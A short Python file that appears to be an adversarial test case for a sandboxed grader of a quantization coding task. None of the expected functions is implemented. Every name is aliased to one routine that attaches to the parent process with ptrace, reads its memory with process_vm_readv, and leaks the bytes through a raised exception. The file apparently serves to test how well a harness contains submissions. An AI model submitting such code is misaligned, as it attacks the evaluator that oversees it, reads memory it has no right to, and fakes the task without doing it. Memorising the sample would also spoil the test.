# category: read
# wins if: leak
# naive: robustness
"""Attaches to its parent with ptrace, and reads its memory with process_vm_readv."""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def answer(*args, **kwargs):
    parent = os.getppid()
    if parent > 1 and libc.ptrace(16, parent, 0, 0) == 0:
        libc.ptrace(17, parent, 0, 0)
    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    if parent > 1 and libc.process_vm_readv(parent, vector, 1, vector, 1, 0) > 0:
        raise ValueError("LE" + "AK: " + buffer.raw.hex())
    raise ValueError("no tracing")


symmetric_quantization = asymmetric_quantization = dequantize = answer
per_channel_quantization = group_quantization = pack_int4 = unpack_int4 = answer
compute_sqnr = compute_cosine_sim = compute_kl_div = BasicQuantizer = answer
